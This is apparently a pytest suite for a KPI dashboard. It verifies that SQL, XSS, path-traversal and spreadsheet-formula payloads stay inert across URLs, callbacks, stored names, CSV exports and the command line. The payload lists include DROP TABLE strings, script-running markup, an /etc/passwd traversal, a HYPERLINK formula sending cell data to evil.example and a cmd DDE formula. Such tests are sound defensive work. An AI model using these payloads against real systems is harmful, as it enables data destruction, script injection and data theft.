"""SQL and script injection are inert: through URL parameters, callback requests, stored unit names, notes
and file names, CSV exports and the command line.

Every attempt (a payload through an entry point) is counted; the last test prints the total:
    .venv/bin/pytest --headless tests/test_injection.py -q
The app runs on a copy of the demo database in which a township, a village, two submissions' file names,
their loader and their notes hold payloads. Nothing may reach the database as SQL (every table keeps its
rows; only the audit log grows), nothing may reach the page as HTML (React renders text; no component that
renders raw HTML receives a payload, and every link stays on this site), no request may end in HTTP 500,
and no CSV cell may start a spreadsheet formula.
"""
from __future__ import annotations

import base64
import collections
import csv
import dataclasses
import io
import json
import sqlite3
import time
from urllib.parse import quote, unquote

import openpyxl
import pytest
import sqlalchemy as sa

from dashboard import cli, exports, ids, wallstate
from dashboard.app import create_app
from dashboard.data import db, meta, schema

ATTEMPTS: collections.Counter = collections.Counter()  # entry point -> payloads sent through it
FOTANG, DACHEN = "330782100000", "330782106000"  # 佛堂镇, 大陈镇
VILLAGE = "330782100014"        # 大成社区居委会, in 佛堂镇
MISSING_VILLAGE = "330782100017"  # a village of 佛堂镇 that has not reported for 2022-12 in the demo data
SQL = ("' OR 1=1 --", "'; DROP TABLE observations; --", "1; DELETE FROM units", '" OR ""="', "') OR ('a'='a")
SCRIPT = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
          "<svg/onload=alert(1)>", "\u202e<svg onload=alert(1)>", "<scr\x00ipt>alert(1)</script>",
          "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253E",
          "{{7*7}}${7*7}<%= 7*7 %>", "../../../../etc/passwd", "A" * 5000 + "<script>alert(1)</script>")
PAYLOADS = SQL + SCRIPT
FORGED = ("' OR 1=1 --", "'; DROP TABLE observations; --", "<script>alert(1)</script>",
          '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "A" * 5000 + "<script>", "\ud800<script>")

# What the copied database holds.
EVIL_TOWN = "<img src=x onerror=window.__pwned=1>"               # 大陈镇's name
EVIL_VILLAGE = '=HYPERLINK("http://evil.example/?"&A1,"详情")'     # a village's name: a spreadsheet formula
EVIL_FILES = ("<img src=x onerror=window.__pwned=1>.csv", "'; DROP TABLE units;--.csv")
EVIL_BY = "<script>window.__pwned=1</script>"
EVIL_NOTES = ("'); DROP TABLE observations;-- <b onmouseover=window.__pwned=1>", "=cmd|' /C calc'!A0")

PAGES = ("/", f"/township/{FOTANG}", f"/village/{VILLAGE}", "/data", f"/data/{FOTANG}", "/missing", "/wall")
KEYS = ("month", "cat", "ind", "lang", "towns", "span", "unit", "units", "rotate", "refresh", "panels")
RAW_HTML_PROPS = {"dangerouslySetInnerHTML", "dangerously_set_inner_html", "srcDoc", "innerHTML", "outerHTML"}
URL_PROPS = {"href", "src", "action", "formAction", "srcSet", "poster"}
OK = {200, 204} | set(range(400, 500))
AUDITED = {"audit_log"}
UNFORGED = {("wall-health", "data"), ("wall-viewport", "data")}  # numbers and flags the browser keeps
# A language no page knows falls back to Chinese: the brief then renders in Chromium (seconds a call).
SLOW = {("export-brief-download.data", ("app-lang", "data"))}


def attempt(entry: str, n: int = 1) -> None:
    """Count n payloads sent through an entry point."""
    ATTEMPTS[entry] += n


# --- the database with payloads ----------------------------------------------------------------------
def tables(engine) -> dict[str, int]:
    """Every table of the database and its row count."""
    with engine.connect() as conn:
        return {name: conn.execute(sa.text(f'SELECT COUNT(*) FROM "{name}"')).scalar()
                for name in sa.inspect(conn).get_table_names()}


def fingerprint(engine) -> tuple:
    """Tables, their row counts and the data version: what any write would change. (The audit log
    grows with requests by design: it is counted by name only.)"""
    with engine.connect() as conn:
        version = meta.data_version(conn)
    return {name: n for name, n in tables(engine).items() if name not in AUDITED}, set(tables(engine)), version


def submission(rows: list[str]) -> str:
    """A submission file's text."""
    return "period,unit_code,indicator,value,numerator,denominator,note\n" + "".join(r + "\n" for r in rows)


@pytest.fixture(scope="module")
def evil(demo_settings, tmp_path_factory):
    """Settings on a copy of the demo database whose names, file names, loader and notes hold payloads.

    The names go in as any admin's edit of the unit list would; the files go through `kpi-dashboard ingest`."""
    folder = tmp_path_factory.mktemp("evil")
    target = folder / "kpi.sqlite3"
    with sqlite3.connect(sa.make_url(demo_settings.database_url).database) as source, sqlite3.connect(target) as copy:
        source.backup(copy)
    settings = dataclasses.replace(demo_settings, database_url=f"sqlite:///{target}", var_dir=folder)
    engine = db.make_engine(settings.database_url)
    with engine.begin() as conn:
        for code, name in ((DACHEN, EVIL_TOWN), (MISSING_VILLAGE, EVIL_VILLAGE)):
            conn.execute(schema.units.update().where(schema.units.c.code == code).values(name=name))
        meta.bump_data_version(conn)
    paths = []
    for name, value, note in zip(EVIL_FILES, (9001, 9002), EVIL_NOTES):
        path = folder / name
        path.write_text(submission([f"2022-06,{FOTANG},certified_social_workers,{value},,,{note}"]), encoding="utf-8")
        paths.append(str(path))
    with pytest.MonkeyPatch.context() as env:
        env.setenv("KPI_DATABASE_URL", settings.database_url)
        env.setenv("KPI_VAR_DIR", str(folder))
        for path in paths:
            assert cli.main(["ingest", path, "--by", EVIL_BY]) == 0
    attempt("ingest: file name, note and --by stored", len(EVIL_FILES) * 3)
    yield settings, engine, paths
    engine.dispose()


@pytest.fixture(scope="module")
def app(evil):
    return create_app(evil[0])


@pytest.fixture(scope="module")
def client(app):
    return app.server.test_client()


@pytest.fixture
def unchanged(evil):
    """Fails the test if any table is gone or any row count or the data version changed."""
    engine = evil[1]
    before = fingerprint(engine)
    yield engine
    assert fingerprint(engine) == before, "the database changed"


# --- what would make a payload dangerous -----------------------------------------------------------
def sinks(node, path: tuple = ()):
    """(path, value) of everything in a layout or callback response that a browser would parse as HTML,
    run, or follow as a URL: raw-HTML props, Markdown allowed HTML, grid cells with an HTML renderer, links."""
    if isinstance(node, list):
        for i, item in enumerate(node):
            yield from sinks(item, (*path, i))
        return
    if not isinstance(node, dict):
        return
    props = node.get("props") if isinstance(node.get("props"), dict) and "type" in node else None
    if props is not None:
        kind = node.get("type")
        if kind == "Markdown" and props.get("dangerously_allow_html"):
            yield (*path, "children"), props.get("children")
        if kind == "AgGrid":
            yield from grid_sinks(props, path)
    for name, value in node.items():
        if name in RAW_HTML_PROPS:
            yield (*path, name), value
        elif name in URL_PROPS and isinstance(value, str):
            yield (*path, name), value
        yield from sinks(value, (*path, name))


def grid_sinks(props: dict, path: tuple):
    """An AgGrid's cells that it would render as HTML (markdown or custom renderers, allowed code)."""
    rows = props.get("rowData") or []
    if props.get("dangerously_allow_code"):
        yield (*path, "rowData"), rows
    for column in props.get("columnDefs") or []:
        if isinstance(column, dict) and column.get("cellRenderer"):
            yield (*path, "columnDefs", column.get("field")), [r.get(column.get("field")) for r in rows]


def assert_inert(tree, payloads) -> None:
    """No payload reaches an HTML sink, and every link stays on this site (a payload inside a path is data)."""
    for where, value in sinks(tree):
        if where[-1] in URL_PROPS:
            assert safe_url(where[-1], value), (where, value[:200])
            continue
        text = json.dumps(value, ensure_ascii=False)
        for payload in payloads:
            assert payload not in text, f"{payload[:40]!r} reaches {where}"


def safe_url(prop: str, url: str) -> bool:
    """A path on this site (not //host), a query or fragment, or for <img> a data: picture."""
    url = url.strip()
    if prop == "src" and url.lower().startswith("data:image/"):
        return True  # the cards' sparklines: SVG shown by <img> runs no script
    return url.startswith(("?", "#")) or (url.startswith("/") and not url.startswith(("//", "/\\")))


def as_text(response) -> str:
    """A response body as text (a JSON body decoded, so that escapes do not hide a payload)."""
    if response.is_json:
        return json.dumps(response.get_json(), ensure_ascii=False)
    return response.get_data(as_text=True)


# --- callbacks, as the browser calls them ------------------------------------------------------------
DEFAULTS = {
    ("app-url", "pathname"): f"/township/{FOTANG}", ("app-url", "search"): "?month=2022-12&lang=zh",
    ("app-route", "data"): {"page": "township", "unit": FOTANG}, ("app-month", "data"): "2022-12",
    ("app-category", "data"): None, ("app-indicator", "data"): "certified_social_workers",
    ("app-lang", "data"): "zh", ("app-towns", "data"): [], ("filter-month", "value"): "2022-12",
    ("filter-category", "value"): None, ("filter-towns", "value"): [], ("shell-lang", "value"): "zh",
    ("unit-indicator", "value"): "certified_social_workers", ("data-indicator", "value"): None,
    ("data-span", "value"): "12", ("data-matrix", "cellClicked"): {"rowId": FOTANG, "colId": "2022-06"},
    ("unit-table", "cellClicked"): {"rowId": FOTANG, "colId": "name"},
    ("unit-ranking", "clickData"): {"points": [{"customdata": FOTANG}]},
    ("wall-options", "data"): wallstate.WallOptions(month="2022-12").as_store(),
    ("wall-viewport", "data"): {"w": 1920, "h": 1080}, ("unit-table", "virtualRowData"): [],
    ("data-template-unit", "value"): FOTANG, ("data-template-month", "value"): "2022-12",
}


def outputs_of(key: str):
    """The outputs a callback's key names, as the renderer posts them."""
    if key.startswith(".."):
        return [dict(zip(("id", "property"), part.rsplit(".", 1))) for part in key[2:-2].split("...")]
    return dict(zip(("id", "property"), key.rsplit(".", 1)))


def server_callbacks(app) -> dict[str, dict]:
    """The app's server-side callbacks without pattern-matching IDs (their payloads are built below)."""
    return {key: cb for key, cb in app.callback_map.items()
            if "callback" in cb and "{" not in key and not any("{" in s["id"] for s in cb["inputs"] + cb["state"])}


def find(app, output: str, input: str | None = None) -> str:
    """The key of the callback with that output (and input, where several write the same output)."""
    def named(spec):
        return f"{spec['id']}.{spec['property'].split('@')[0]}"
    for key, cb in server_callbacks(app).items():
        outs = outputs_of(key)
        if output in {named(o) for o in (outs if isinstance(outs, list) else [outs])} and (
                input is None or input in {f"{s['id']}.{s['property']}" for s in cb["inputs"]}):
            return key
    raise LookupError(output)


def body(app, key: str, values: dict | None = None, trigger: str | None = None) -> dict:
    """The JSON dash-renderer posts to /_dash-update-component for one callback."""
    cb = app.callback_map[key]
    values = {**DEFAULTS, **(values or {})}

    def entry(slot):
        default = 1 if slot["property"] in ("n_clicks", "n_intervals") else None
        value = values.get((slot["id"], slot["property"]), default)
        return {"id": slot["id"], "property": slot["property"], "value": value}
    first = cb["inputs"][0]
    return {"output": key, "outputs": outputs_of(key), "inputs": [entry(s) for s in cb["inputs"]],
            "state": [entry(s) for s in cb["state"]],
            "changedPropIds": [trigger or f"{first['id']}.{first['property']}"]}


def post(client, payload: dict):
    return client.post("/_dash-update-component", data=json.dumps(payload), content_type="application/json")


def shaped(slot: tuple[str, str], payload: str):
    """A payload in the shape the slot carries (a route's unit, a click's row, a list's item)."""
    default = DEFAULTS.get(slot)
    if slot == ("app-url", "pathname"):
        return "/township/" + payload
    if slot == ("app-url", "search"):  # forged: not even percent-encoded as a browser would
        return "?" + "&".join(f"{k}={payload}" for k in KEYS)
    if slot == ("app-route", "data"):
        return {"page": "township", "unit": payload}
    if slot == ("wall-options", "data"):
        return {**default, "unit": payload, "month": payload}
    if slot == ("unit-table", "virtualRowData"):
        return [{"code": payload, "name": payload, "value": 1, "status": payload, "status_text": payload}]
    if isinstance(default, dict) and "rowId" in default:
        return {"rowId": payload, "colId": payload, "value": payload}
    if slot[1] == "clickData":
        return {"points": [{"customdata": payload, "label": payload, "y": payload}]}
    return [payload] if isinstance(default, list) else payload


# --- 1. URL parameters -----------------------------------------------------------------------------
def test_pages_with_payloads_in_the_address_load_and_never_echo_them(client, unchanged):
    for page in PAGES:
        for payload in PAYLOADS:
            for query in ("&".join(f"{k}={quote(payload, safe='')}" for k in KEYS),
                          "&".join(f"{k}={payload}" for k in KEYS)):
                response = client.get(page, query_string=query)
                attempt("GET page ?key=payload", len(KEYS))
                assert response.status_code in OK, (page, query[:80], response.status_code)
                assert payload not in response.get_data(as_text=True), page
    for prefix in ("/township/", "/village/", "/data/", "/", "/wall/"):
        for payload in PAYLOADS:
            response = client.get(prefix + quote(payload, safe=""))
            attempt("GET page /path/payload")
            assert response.status_code in OK, (prefix, payload[:40])
            assert payload not in response.get_data(as_text=True)


def test_the_layout_for_a_payload_referer_holds_no_payload(client, unchanged):
    """/_dash-layout builds the wall from the page's address (the Referer): only checked values get in."""
    for page, keys in (("/wall", KEYS), ("/", [KEYS]), ("/data", [KEYS])):  # only the wall reads the Referer
        for payload in PAYLOADS:
            for key in keys:
                query = "&".join(f"{k}={quote(payload, safe='')}" for k in ([key] if isinstance(key, str) else key))
                referer = f"http://localhost{page}?{query}"
                response = client.get("/_dash-layout", headers={"Referer": referer})
                attempt("GET /_dash-layout Referer", 1 if isinstance(key, str) else len(key))
                assert response.status_code == 200, (referer[:80], response.status_code)
                assert payload not in as_text(response)
                assert_inert(response.get_json(), [payload])
    for referer in ("http://[", "http://[::1/wall?unit=<script>", "javascript:alert(1)//wall", "//wall/..%2f<script>"):
        response = client.get("/_dash-layout", headers={"Referer": referer})
        attempt("GET /_dash-layout Referer")
        assert response.status_code == 200, referer  # a malformed Referer once raised in urlparse: HTTP 500


def test_the_address_callback_turns_any_payload_url_into_a_clean_view(app, client, unchanged):
    """The one callback that reads the address: pathname and search straight from the browser."""
    key = find(app, "app-url.search", "app-url.pathname")
    for page in PAGES:
        for payload in [*PAYLOADS, "²", "9" * 5000]:
            search = "?" + "&".join(f"{k}={quote(payload, safe='')}" for k in KEYS)
            for pathname, query in ((page, search), (page.rstrip("/") + "/" + quote(payload, safe=""), "?lang=zh")):
                response = post(client, body(app, key, {("app-url", "pathname"): pathname,
                                                         ("app-url", "search"): query}, "app-url.search"))
                attempt("callback: address (pathname, search)", len(KEYS) if query == search else 1)
                assert response.status_code in (200, 204), (pathname[:60], query[:60], response.status_code)
                text = as_text(response)
                assert payload not in text and quote(payload, safe="") not in text
                if response.status_code == 200:
                    assert_inert(response.get_json(), [payload])


@pytest.fixture(scope="module")
def forged(app, evil):
    """Every server callback called with each payload in each input and state it takes (one at a time,
    the rest as the browser would send them): (callback, slot, payload, status, body) for each request."""
    client = app.server.test_client()
    before = fingerprint(evil[1])
    results = []
    for key, cb in server_callbacks(app).items():
        for slot in cb["inputs"] + cb["state"]:
            name = (slot["id"], slot["property"])
            if slot["property"] in ("n_clicks", "n_intervals") or name in UNFORGED or (key, name) in SLOW:
                continue
            for payload in FORGED:
                response = post(client, body(app, key, {name: shaped(name, payload)}, f"{name[0]}.{name[1]}"))
                results.append((key, name, payload, response.status_code,
                                response.get_json() if response.is_json else response.get_data(as_text=True)))
    attempt("callback: forged input or state", len(results))
    return results, before, fingerprint(evil[1])


def test_forged_callback_requests_never_reach_the_database_or_an_html_sink(forged):
    results, before, after = forged
    assert after == before, "a forged callback request changed the database"
    assert len(results) > 500
    for key, slot, payload, status, answer in results:
        if status == 200:
            assert_inert(answer, [payload])
        elif status >= 500:  # the error page says nothing of the request
            assert payload not in str(answer) and "Traceback" not in str(answer), (key, slot)


def test_forged_callback_requests_never_give_a_server_error(forged):
    failures = sorted({(key.split("...")[0][:50], f"{slot[0]}.{slot[1]}") for key, slot, _, status, _ in forged[0]
                       if status >= 500})
    assert not failures, f"{len(failures)} callback inputs give HTTP 500, e.g. {failures[:8]}"


# --- 2. payloads stored in the database ----------------------------------------------------------
def test_stored_payloads_are_kept_exactly_as_data(evil, unchanged):
    """Bound parameters: the notes, file names and loader went in as text, and every table is still there."""
    engine = unchanged
    with engine.connect() as conn:
        subs = conn.execute(sa.select(schema.submissions.c.file_name, schema.submissions.c.loaded_by)
                            .where(schema.submissions.c.kind == "ingest").order_by(schema.submissions.c.id)).all()
        note = conn.execute(sa.select(schema.observations.c.note).where(
            schema.observations.c.unit_code == FOTANG, schema.observations.c.period == "2022-06",
            schema.observations.c.indicator_code == "certified_social_workers")).scalar()
        history = conn.execute(sa.select(schema.observation_history.c.note)).scalars().all()
        names = dict(conn.execute(sa.select(schema.units.c.code, schema.units.c.name)).all())
    assert [tuple(s) for s in subs] == [(f, EVIL_BY) for f in EVIL_FILES]
    assert note == EVIL_NOTES[1] and EVIL_NOTES[0] in history
    assert names[DACHEN] == EVIL_TOWN and names[MISSING_VILLAGE] == EVIL_VILLAGE
    assert {"units", "observations", "submissions", "observation_history"} <= set(tables(engine))


def test_a_file_of_payload_cells_is_rejected_and_its_errors_are_plain_text(evil, unchanged, capsys):
    """`kpi-dashboard ingest` on a file whose name and cells are SQL and markup: FILE:LINE text, nothing written."""
    settings, _, _ = evil
    path = settings.var_dir / "<svg onload=alert(1)>'; DROP TABLE observations;--.csv"
    out = io.StringIO()
    header = ["period", "unit_code", "indicator", "value", "numerator", "denominator"]
    csv.writer(out).writerows([header, *[["2022-06", unit, "x'; DROP TABLE observations;--", "1", "", ""]
                                         for unit in SQL]])
    path.write_text(out.getvalue(), encoding="utf-8")
    with pytest.MonkeyPatch.context() as env:
        env.setenv("KPI_DATABASE_URL", settings.database_url)
        assert cli.main(["ingest", str(path), "--by", EVIL_BY]) == 1
    attempt("ingest: payload cells (unit code, indicator)", 2 * len(SQL))
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 * len(SQL) and all(line.startswith(f"{path}:") for line in err)


def test_the_reporting_page_shows_payload_file_names_and_loader_as_text(app, client, unchanged):
    """/data, a cell's history: the files behind it and who loaded them (grid and table cells: text)."""
    key = find(app, "data-detail.children")
    response = post(client, body(app, key, {("app-route", "data"): {"page": "data", "unit": None},
                                            ("app-month", "data"): "2022-06", ("app-indicator", "data"): None,
                                            ("data-matrix", "cellClicked"): {"rowId": FOTANG, "colId": "2022-06"}},
                                 "data-matrix.cellClicked"))
    attempt("page: /data cell history (file names, loader)", len(EVIL_FILES) + 1)
    assert response.status_code == 200
    text = as_text(response)
    assert all(name in text for name in EVIL_FILES) and EVIL_BY in text  # shown, as data
    assert_inert(response.get_json(), [*EVIL_FILES, EVIL_BY, *EVIL_NOTES])


@pytest.mark.parametrize("output, values", [
    ("data-missing.rowData", {("app-route", "data"): {"page": "data", "unit": None}, ("app-indicator", "data"): None}),
    ("data-matrix.rowData", {("app-route", "data"): {"page": "data", "unit": None}, ("app-indicator", "data"): None}),
    ("unit-ranking.figure", {("app-route", "data"): {"page": "city", "unit": None}}),
    ("page-title.children", {("app-route", "data"): {"page": "township", "unit": DACHEN}}),
    ("page-cards.children", {("app-route", "data"): {"page": "township", "unit": DACHEN}}),
    ("wall-data.data", {("wall-options", "data"): wallstate.WallOptions(month="2022-12", all_units=True).as_store()}),
], ids=["missing-list", "matrix", "ranking-tiles-table", "breadcrumb-title", "cards", "wall"])
def test_a_payload_unit_name_is_shown_as_text_everywhere(app, client, unchanged, output, values):
    response = post(client, body(app, find(app, output), values))
    attempt(f"page: unit name in {output}")
    assert response.status_code == 200
    if output != "page-cards.children":  # the cards name indicators, not units
        assert EVIL_TOWN in as_text(response)
    assert_inert(response.get_json(), [EVIL_TOWN, EVIL_VILLAGE])


# --- 3. CSV exports ----------------------------------------------------------------------------------
def download(response) -> tuple[str, bytes]:
    """(file name, bytes) of a dcc.Download callback answer."""
    sent = next(iter(response.get_json()["response"].values()))["data"]
    content = base64.b64decode(sent["content"]) if sent.get("base64") else sent["content"].encode("utf-8")
    return sent["filename"], content


def assert_no_formula(cells: list[str]) -> None:
    """No cell starts a spreadsheet formula, except numbers (a negative number is fine)."""
    for cell in cells:
        if cell.startswith(exports.FORMULA_LEADS):
            float(cell)  # raises unless it is a number


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_csv_bytes_keeps_formula_text_as_text_and_numbers_as_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": [*exports.FORMULA_LEADS, "=1+1", "+86 579", "-x", "@SUM(A1)", "ok", None],
                          "value": [-1.5, 2, None, 3, 4, 5, 6, -7, 8, 9, 10, 11]})
    cells = csv_cells(exports.csv_bytes(frame))
    attempt("csv_bytes: formula leads", 10)
    back = exports.read_csv(exports.csv_bytes(frame))
    assert back["value"].tolist()[:2] == [-1.5, 2.0]
    assert back["name"].tolist()[6:11] == ["'=1+1", "'+86 579", "'-x", "'@SUM(A1)", "ok"]
    assert_no_formula(cells)


def test_csv_exports_keep_payload_names_as_text_and_no_cell_starts_a_formula(app, client, unchanged):
    cases = {
        "missing list": (find(app, "data-missing-download.data"),
                         {("app-route", "data"): {"page": "data", "unit": None}, ("app-indicator", "data"): None}),
        "ranking": (find(app, "export-csv-download.data"), {("app-route", "data"): {"page": "city", "unit": None}}),
        "table (rows from the browser)": (find(app, "export-csv-download.data"), {
            ("app-route", "data"): {"page": "city", "unit": None}, ("unit-table", "virtualRowData"): [
                {"code": "=cmd|' /C calc'!A0", "name": EVIL_VILLAGE, "status_text": "@SUM(1+1)*cmd|' /C calc'!A0",
                 "status": "+1", "value": -3, "reported": "-2+3"}]}),
    }
    triggers = {"ranking": "export-ranking-csv.n_clicks", "table (rows from the browser)": "export-table-csv.n_clicks"}
    for what, (key, values) in cases.items():
        response = post(client, body(app, key, values, triggers.get(what)))
        attempt(f"CSV export: {what}")
        assert response.status_code == 200, what
        name, data = download(response)
        assert not set(name) & set("<>\"'`/\\|"), name  # file names drop markup and quotes
        cells = csv_cells(data)
        assert_no_formula(cells)
        if what != "ranking":
            assert "'" + EVIL_VILLAGE in cells, what
        if what != "table (rows from the browser)":
            assert EVIL_TOWN in cells, what  # a name with markup is a plain cell


@pytest.mark.parametrize("button", [ids.DATA_TEMPLATE_CSV, ids.DATA_TEMPLATE_XLSX])
def test_templates_keep_a_formula_like_unit_name_as_text(app, client, button):
    response = post(client, body(app, find(app, "data-template-download.data"), {}, f"{button}.n_clicks"))
    assert response.status_code == 200
    _, data = download(response)
    if button == ids.DATA_TEMPLATE_CSV:
        assert EVIL_VILLAGE not in csv_cells(data)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


# --- 4. the command line ---------------------------------------------------------------------------------
def test_the_kpis_command_treats_payloads_as_data(evil, unchanged, capsys):
    settings = evil[0]
    with pytest.MonkeyPatch.context() as env:
        env.setenv("KPI_DATABASE_URL", settings.database_url)
        for payload in PAYLOADS:
            for option in ("--unit", "--as-of"):
                assert cli.main(["kpis", option, payload]) == 2, (option, payload[:40])
                attempt("CLI: kpis --unit/--as-of payload")
        capsys.readouterr()
        for fmt in ("csv", "json", "table"):
            assert cli.main(["kpis", "--unit", DACHEN, "--as-of", "2022-12", "--format", fmt]) == 0
            out = capsys.readouterr().out
            attempt("CLI: kpis output with payload names")
            if fmt == "csv":
                rows = list(csv.DictReader(io.StringIO(out)))
                assert rows and {r["unit_code"] for r in rows} == {DACHEN}
            elif fmt == "json":
                assert {r["unit_code"] for r in json.loads(out)} == {DACHEN}


# --- 5. in the browser ---------------------------------------------------------------------------------
MARKUP = "[onerror], [onload], [onmouseover], iframe[srcdoc], img[src='x'], svg script"
DIALOG_HOOK = ("window.alert = window.confirm = window.prompt = function () {"
               " window.__dialog = (window.__dialog || 0) + 1; };")


@pytest.mark.browser
def test_payloads_in_the_address_and_in_names_run_no_script_in_the_browser(dash_duo, app):
    from selenium.common.exceptions import NoAlertPresentException

    dash_duo.start_server(app)
    driver = dash_duo.driver
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": DIALOG_HOOK})
    script = quote("<script>window.__pwned=1</script>", safe="")
    img = quote('"><img src=x onerror=window.__pwned=1>', safe="")
    pages = [
        (f"/township/{DACHEN}?month=2022-12&cat={script}&ind={img}&lang=javascript:window.__pwned=1", EVIL_TOWN),
        (f"/?month=2022-12&towns={img}&lang={script}", EVIL_TOWN),
        (f"/data?month=2022-12&span={img}&ind={script}", EVIL_TOWN),
        (f"/wall?units=all&unit={img}&panels={script}&month=2022-12&lang=zh", None),
        (f"/{img}?month={script}", None),
    ]
    for path, shown in pages:
        driver.get(dash_duo.server_url + path)
        dash_duo.wait_for_element("#react-entry-point", timeout=20)
        deadline = time.monotonic() + 20
        while shown and time.monotonic() < deadline and shown not in driver.execute_script(
                "return document.body.innerText"):
            time.sleep(0.2)
        time.sleep(1.0)  # images that fail to load fire onerror by now
        attempt("browser: address and names", unquote(path).count("__pwned") + bool(shown))
        try:
            alert = driver.switch_to.alert
            pytest.fail(f"a dialog opened on {path}: {alert.text}")
        except NoAlertPresentException:
            pass
        state = driver.execute_script("return [typeof window.__pwned, typeof window.__dialog]")
        assert state == ["undefined", "undefined"], path
        if shown:  # the name is on the page, as text
            assert shown in driver.execute_script("return document.body.innerText"), path
        # No element came from a payload's markup (the CSP would also stop its handler running: two layers).
        assert driver.execute_script(f"return document.querySelectorAll({MARKUP!r}).length") == 0, path


# --- the count the closing note reports ----------------------------------------------------------------
def test_zz_injection_attempts(capsys):
    """Print the injection attempts made in this session (shown even without -s)."""
    with capsys.disabled():
        print(f"\ninjection attempts: {sum(ATTEMPTS.values()):,}")
        for name, n in sorted(ATTEMPTS.items()):
            print(f"  {n:>6,}  {name}")
    assert all(n >= 1 for n in ATTEMPTS.values())
